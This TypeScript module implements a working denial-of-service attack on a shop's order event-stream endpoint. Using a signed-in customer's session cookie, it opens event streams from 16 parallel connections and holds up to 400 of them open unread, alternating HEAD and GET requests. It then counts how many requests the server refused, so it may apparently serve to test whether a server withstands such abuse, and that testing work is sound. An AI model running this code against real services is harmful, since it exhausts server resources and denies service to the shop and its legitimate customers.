/** One signed-in customer asks for event streams as fast as they can, and reads none of them. */
import { Agent, type ClientRequest, request } from 'node:http'

const EVENTS_PATH = '/api/orders/events'
/** Connections that ask for one stream after the other. */
const ASKING = 16
/** Streams that are held open at the same time; beyond it, the oldest is given up for a new one. */
const MAX_HELD = 400

export interface StreamTarget {
  /** Where the shop is reached, without a slash at the end. */
  origin: string
  /** The session of a signed-in customer. */
  cookie: string
}

interface Attack {
  /** The status of the answer; 0 where there was none. */
  ask(method: 'GET' | 'HEAD'): Promise<number>
  end(): void
}

function beginAttack({ origin, cookie }: StreamTarget): Attack {
  const agent = new Agent({ keepAlive: true, maxSockets: ASKING })
  const open = new Set<ClientRequest>()
  const held: ClientRequest[] = []
  const url = `${origin}${EVENTS_PATH}`
  const headers = { accept: 'text/event-stream', cookie }

  /** Keeps an open stream without ever reading from it. */
  function hold(stream: ClientRequest) {
    held.push(stream)
    if (held.length > MAX_HELD) held.shift()?.destroy()
  }

  return {
    ask: (method) =>
      new Promise((settle) => {
        // A stream keeps its connection, so each has one of its own.
        const asked = request(url, { method, headers, agent: method === 'HEAD' ? agent : false })
        open.add(asked)
        asked.on('error', () => settle(0))
        asked.on('close', () => open.delete(asked))
        asked.on('response', (answer) => {
          const status = answer.statusCode ?? 0
          answer.on('error', () => undefined)
          if (method === 'GET' && status === 200) hold(asked)
          else answer.resume()
          settle(status)
        })
        asked.end()
      }),
    end() {
      for (const asked of open) asked.destroy()
      agent.destroy()
    },
  }
}

/**
 * Asks with HEAD and GET in turn and keeps every stream that is opened, for so many milliseconds or until `signal`.
 * @returns how many requests were sent, and how many of them did not get an answer of success
 */
export async function holdEventStreams(
  target: StreamTarget,
  milliseconds: number,
  signal: AbortSignal,
): Promise<{ requests: number; refused: number }> {
  const attack = beginAttack(target)
  const until = performance.now() + milliseconds
  const isOver = () => signal.aborted || performance.now() >= until
  let requests = 0
  let refused = 0

  async function keepAsking() {
    while (!isOver()) {
      const status = await attack.ask(requests % 2 === 0 ? 'HEAD' : 'GET')
      requests += 1
      if (status < 200 || status >= 300) refused += 1
    }
  }

  const end = () => attack.end()
  // An attack that is called off, or whose shop no longer answers, still ends in time.
  const limit = setTimeout(end, milliseconds + 1_000)
  signal.addEventListener('abort', end, { once: true })
  await Promise.all(Array.from({ length: ASKING }, keepAsking))
  clearTimeout(limit)
  signal.removeEventListener('abort', end)
  attack.end()
  return { requests, refused }
}
